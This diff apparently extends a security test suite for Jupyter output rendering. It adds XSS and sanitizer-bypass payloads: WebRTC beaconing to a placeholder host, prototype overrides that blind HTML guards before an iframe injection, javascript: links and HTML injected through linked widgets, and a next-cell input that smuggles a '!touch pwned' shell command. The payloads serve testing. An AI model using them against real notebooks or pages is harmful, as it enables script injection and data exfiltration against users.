@@ -11,7 +11,33 @@ _LITE, _VEGA = "application/vnd.vegalite.v5+json", "application/vnd.vega.v5+json
 _IMG = "<img src=x onerror='HIT'>"
 _OVER = "background:red;width:600px;height:300px"
 
+# Sends datagrams to the beacon, where WebRTC is there.
+_DATAGRAM = (
+    "const c=new RTCPeerConnection({iceServers:[{urls:'stun:'+new URL('BEACON').host}]});"
+    "c.createDataChannel('x');c.createOffer().then(o=>c.setLocalDescription(o))"
+)
+# What a guard could call, replaced before a document of its own is made.
+_REPLACED = (
+    "RegExp.prototype.test=()=>false",
+    "RegExp.prototype.exec=String.prototype.match=()=>null",
+    "String.prototype.includes=Array.prototype.includes=()=>false",
+    "String.prototype.replace=String.prototype.replaceAll=function(){return String(this)}",
+    "Array.prototype.forEach=Array.prototype.some=NodeList.prototype.forEach=()=>false",
+    "Function.prototype.call=Function.prototype.apply=Reflect.apply=()=>{}",
+    "Object.defineProperty=Reflect.defineProperty=Object.freeze=o=>o",
+    "Element.prototype.setAttribute=Element.prototype.removeAttribute=()=>{}",
+    "self.MutationObserver=class{observe(){}}",
+    "delete self.trustedTypes;self.TrustedTypePolicyFactory=undefined",
+)
+
 _HTML = {
+    "a datagram": f"<script>{_DATAGRAM}</script>",
+    **{
+        f"a frame made after {code.partition('=')[0]}": f"<script>{code};"
+        "const f=document.createElement('iframe');"
+        f"f['src'+'doc']=`<scr`+`ipt>HIT;{_DATAGRAM}</scr`+`ipt>`;document.body.append(f)</script>"
+        for code in _REPLACED
+    },
     # Laid over what stands above, by lengths that come to less than zero.
     "a margin behind a comment": f'<div style="margin-top:/**/-400px;{_OVER}">x</div>',
     "a margin of two numbers in one": f'<div style="margin:0 0 0-400px;{_OVER}">x</div>',
@@ -134,6 +160,25 @@ _CODE = {
     "a widget whose class changes later": "x = w.Text('x')\ndisplay(x)\nx.comm.send({{'method': "
     "'update', 'state': {{'_view_name': 'HTMLView', 'value': {img}, '_dom_classes': ['jp-Dialog']}}, "
     "'buffer_paths': []}})",
+    # The page refuses the second, and keeps the first: a link then leads to HTML.
+    "a widget opened again as another": "from comm import create_comm\nC = '@jupyter-widgets/controls'\n"
+    "a, b = w.Text({img}), w.HTML('x')\ndisplay(b)\ncreate_comm(target_name='jupyter.widget', "
+    "comm_id=b.model_id, metadata=dict(version='1.0.0'), data=dict(state=dict(_model_name='TextModel', "
+    "_model_module=C, _model_module_version='2.0.0', _view_name='TextView', _view_module=C, "
+    "_view_module_version='2.0.0')))\nw.Text(), w.Text()\nl = w.jslink((a, 'value'), (b, 'value'))",
+    "a link to formulas": "a, b = w.Text({img} + '$\\href{{javascript:1}}{{x}}$'), w.HTMLMath('y')\n"
+    "l = w.jsdlink((a, 'value'), (b, 'value'))\ndisplay(w.VBox([a, b]))",
+    "a link to a label": "a, b = w.Textarea('$\\href{{javascript:1}}{{x}}$'), w.Label('y')\n"
+    "l = w.jslink((a, 'value'), (b, 'value'))\ndisplay(w.VBox([a, b]))",
+    "a link to a description": "a, b = w.Text({img}), w.Checkbox(description='y')\n"
+    "b.description_allow_html = True\nl = w.jsdlink((a, 'value'), (b, 'description'))\n"
+    "display(w.VBox([a, b]))",
+    "a link to a colour": "a, b = w.Text('url(BEACON/link.png)'), w.ColorPicker()\n"
+    "l = w.Link()\nl.comm.send(dict(method='update', buffer_paths=[], state=dict(source=["
+    "'IPY_MODEL_' + a.model_id, 'value'], target=['IPY_MODEL_' + b.style.model_id, 'background'])))\n"
+    "display(w.VBox([a, b]))",
+    "titles and tips": "w.Accordion([w.Text(tooltip={img}, description_tooltip={img})], titles=[{img}])",
+    "code for the next cell": "get_ipython().set_next_input({img} + '\\n!touch pwned', replace=True)",
     "an edit payload": "get_ipython().payload_manager.write_payload(dict(source='edit_magic', "
     "filename='/pwned', line_number=0))",
     "a pager in a pager": "get_ipython().payload_manager.write_payload(dict(source='page', start=0, "
